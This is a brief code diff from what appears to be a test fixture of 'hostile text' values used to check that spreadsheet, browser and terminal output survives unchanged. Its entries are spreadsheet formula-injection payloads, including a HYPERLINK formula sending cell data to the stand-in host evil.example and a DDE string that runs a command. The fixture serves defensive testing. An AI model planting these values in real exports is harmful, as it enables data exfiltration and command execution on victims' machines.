@@ -8,7 +8,7 @@ const ESCAPE = String.fromCharCode(27)
 const RIGHT_TO_LEFT = '\u202e'
 
 /** Text that attacks spreadsheets, browsers, terminals and careless writers; it must come out as it went in. */
-export const HOSTILE_TEXT: readonly Hostile[] = [
+const HOSTILE_TEXT: readonly Hostile[] = [
   { trip_name: '=HYPERLINK("https://evil.example/?x="&A1,"Open receipt")', cost_center: '=1+1' },
   { description: "+cmd|' /C calc'!A0", vendor: '@SUM(A1:A9)' },
   { cost_center: '@SUM(1+1)*cmd', description: '-2+3' },
